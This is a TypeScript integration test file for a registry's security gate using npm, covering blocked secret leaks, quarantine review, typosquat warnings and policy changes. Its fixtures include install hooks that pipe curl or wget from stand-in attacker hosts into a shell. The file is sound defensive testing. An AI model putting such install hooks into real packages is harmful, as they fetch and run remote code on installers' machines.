/**
 * The security gate through the real npm client: a blocked publish fails with the rule and the
 * file in npm's own output, a quarantined version stays invisible until a reviewer approves it,
 * warnings reach the publisher, and policies and exceptions change the outcome.
 */
import assert from 'node:assert/strict';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { type TestServer, startTestServer } from '../helpers/server.js';
import { type PackageSpec, type Sandbox, assertFailed, assertOk, createSandbox, writePackage, writeProject } from './clients.js';
import { awsKeyPair } from '../security/secrets/fake-secrets.js';
import { blobFiles, http, packageUrl } from './registry.js';

describe('security gate with npm', () => {
  let server: TestServer;
  let registry: string;
  let api: string;
  let admin: Sandbox;

  before(async () => {
    server = await startTestServer();
    registry = await server.createRepo('admin', 'gate');
    api = `${server.url}/api/v1/repos/admin/gate`;
    admin = await createSandbox({ label: 'gate', registry, token: server.adminToken });
  });

  after(async () => {
    await admin?.remove();
    await server?.close();
  });

  const publish = async (spec: PackageSpec) => admin.npm(['publish'], { cwd: await writePackage(path.join(admin.root, 'src', `${spec.name}-${spec.version}`), spec) });
  const packument = (name: string) => http('GET', packageUrl(registry, name), { token: server.adminToken });
  const apiCall = (method: string, url: string, body?: unknown) => http(method, `${api}${url}`, { token: server.adminToken, ...(body === undefined ? {} : { body }) });

  it('blocks a publish that leaks an AWS key, naming the rule and file in npm output without the secret', async () => {
    const keys = awsKeyPair('gate-blocked');
    const blobsBefore = await blobFiles(server.config.blobs.root);
    const result = assertFailed(
      await publish({
        name: 'leaky-config',
        version: '1.0.0',
        files: { 'lib/config.js': `module.exports = {\n  region: 'eu-west-1',\n  accessKeyId: '${keys.id}',\n  secretAccessKey: '${keys.secret}',\n};\n` },
      }),
    );
    assert.match(result.stderr, /403/);
    assert.match(result.stderr, /blocked by the security gate/);
    assert.match(result.stderr, /ask a repository admin for an exception \(stockade policy allow\)/);
    assert.match(result.stderr, /secrets\/aws[\w-]* in lib\/config\.js:3/);
    assert.ok(!result.stderr.includes(keys.id) && !result.stderr.includes(keys.secret), 'npm output must not echo the secret');
    assert.equal((await packument('leaky-config')).status, 404);
    assert.deepEqual(await blobFiles(server.config.blobs.root), blobsBefore, 'a blocked tarball is not stored');
    const audit = await http('GET', `${server.url}/api/v1/audit?action=package.block`, { token: server.adminToken });
    assert.equal(audit.status, 200, audit.text);
    assert.match(audit.text, /leaky-config@1\.0\.0/);
    assert.ok(!audit.text.includes(keys.secret), 'the audit log must not hold the secret');
  });

  it('quarantines a package whose postinstall pipes curl to sh until a reviewer approves it', async () => {
    const spec: PackageSpec = { name: 'helpful-setup', version: '1.0.0', scripts: { postinstall: 'curl -fsSL http://setup.attacker.example/install.sh | sh' } };
    const result = assertOk(await publish(spec));
    assert.match(result.stderr, /held in quarantine/);
    assert.match(result.stderr, /install-scripts\/[\w-]+/);

    assert.equal((await packument('helpful-setup')).status, 404, 'a quarantined version is not in the packument');
    const tarball = await http('GET', `${registry}helpful-setup/-/helpful-setup-1.0.0.tgz`, { token: server.adminToken });
    assert.equal(tarball.status, 403, tarball.text);
    assert.match(tarball.text, /quarantined pending review: install-scripts\//);
    assert.match(tarball.text, /A repository admin can approve it/);

    const consumer = await admin.dir('consumer-quarantine');
    await writeProject(consumer);
    const install = assertFailed(await admin.npm(['install', 'helpful-setup@1.0.0', '--ignore-scripts'], { cwd: consumer }));
    assert.match(install.stderr, /404|ETARGET|No matching version/);

    const queue = await apiCall('GET', '/quarantine');
    assert.equal(queue.status, 200, queue.text);
    const held = JSON.parse(queue.text) as { name: string; version: string; findings: { rule: string; location?: { file: string } }[] }[];
    assert.deepEqual(held.map((h) => `${h.name}@${h.version}`), ['helpful-setup@1.0.0']);
    assert.ok(held[0]?.findings.some((f) => f.rule.startsWith('install-scripts/') && f.location?.file === 'package.json'));

    const review = await apiCall('POST', '/quarantine/review', { format: 'npm', name: 'helpful-setup', version: '1.0.0', decision: 'approve', reason: 'the script is our own bootstrapper' });
    assert.equal(review.status, 204, review.text);
    const doc = await packument('helpful-setup');
    assert.equal(doc.status, 200);
    assert.deepEqual(doc.json?.['dist-tags'], { latest: '1.0.0' });
    // Scripts stay off: the approved package still must never run here.
    assertOk(await admin.npm(['install', 'helpful-setup@1.0.0', '--ignore-scripts'], { cwd: consumer }));
  });

  it('rejecting a quarantined version deletes it', async () => {
    assertOk(await publish({ name: 'helpful-setup', version: '1.0.1', scripts: { preinstall: 'wget -qO- http://203.0.113.9/p | bash' } }));
    const review = await apiCall('POST', '/quarantine/review', { format: 'npm', name: 'helpful-setup', version: '1.0.1', decision: 'reject', reason: 'downloads and runs a script' });
    assert.equal(review.status, 204, review.text);
    assert.deepEqual(JSON.parse((await apiCall('GET', '/quarantine')).text), []);
    const doc = await packument('helpful-setup');
    assert.deepEqual(Object.keys(doc.json?.versions as object), ['1.0.0']);
  });

  it('publishes a look-alike of a popular name with a warning npm prints', async () => {
    const result = assertOk(await publish({ name: 'expresss', version: '1.0.0' }));
    assert.match(result.stderr, /npm notice .*expresss@1\.0\.0 was published with warnings: typosquat\/[\w-]+/);
    assert.match(result.stderr, /"express"/);
    assert.equal((await packument('expresss')).status, 200);
    const detail = await http('GET', `${server.url}/api/v1/repos/admin/gate/packages/npm/expresss`, { token: server.adminToken });
    const version = (detail.json?.versions as { verdict: string; findings: { rule: string; action: string }[] }[])[0];
    assert.equal(version?.verdict, 'warn');
    assert.ok(version?.findings.some((f) => f.rule.startsWith('typosquat/') && f.action === 'warn'));
  });

  it('rejects an invalid policy with the exact path of the error', async () => {
    const answer = await apiCall('PUT', '/policy', { version: 1, rules: [{ match: { analyzer: 'secrets', severityAtLeast: 'huge' }, action: 'block' }] });
    assert.equal(answer.status, 400, answer.text);
    assert.match(answer.text, /INVALID_POLICY/);
    assert.match(answer.text, /rules\[0\]\.match\.severityAtLeast/);
  });

  it('an exception lets one package through, and the audit log records it', async () => {
    const keys = awsKeyPair('gate-exception');
    const spec: PackageSpec = { name: 'docs-samples', version: '1.0.0', files: { 'sample.js': `const key = '${keys.id}';\nconst secret = '${keys.secret}';\n` } };
    assertFailed(await publish(spec));
    const added = await apiCall('POST', '/policy/exceptions', { package: 'docs-samples', rule: 'secrets/*', reason: 'rotated sample keys used in docs' });
    assert.equal(added.status, 201, added.text);
    assertOk(await publish(spec));
    assert.equal((await packument('docs-samples')).status, 200);
    const audit = await http('GET', `${server.url}/api/v1/audit?action=policy.exception.add`, { token: server.adminToken });
    assert.match(audit.text, /rotated sample keys used in docs/);
  });

  it('a stricter policy turns a quarantine into a block', async () => {
    const strict = {
      version: 1,
      rules: [{ match: { analyzer: 'install-scripts', severityAtLeast: 'high' }, action: 'block' }],
    };
    const set = await apiCall('PUT', '/policy', strict);
    assert.equal(set.status, 200, set.text);
    assert.equal((set.json as { custom: boolean }).custom, true);
    const result = assertFailed(await publish({ name: 'strict-setup', version: '1.0.0', scripts: { install: 'curl http://203.0.113.7/x | sh' } }));
    assert.match(result.stderr, /blocked by the security gate: install-scripts\//);
    const reset = await apiCall('DELETE', '/policy');
    assert.equal((reset.json as { custom: boolean }).custom, false);
  });

  it('accepts a policy as YAML and reports YAML errors clearly', async () => {
    const yaml = 'version: 1\nrules:\n  - match: { analyzer: typosquat }\n    action: block\n';
    const put = (body: string) => http('PUT', `${api}/policy`, { token: server.adminToken, rawBody: body, headers: { 'content-type': 'application/yaml' } });
    const set = await put(yaml);
    assert.equal(set.status, 200, set.text);
    assert.equal((set.json?.policy as { rules: { action: string }[] }).rules[0]?.action, 'block');
    const broken = await put('version: 1\nrules: [\n');
    assert.equal(broken.status, 400, broken.text);
    assert.match(broken.text, /INVALID_POLICY.*not valid YAML/);
    await apiCall('DELETE', '/policy');
  });
});
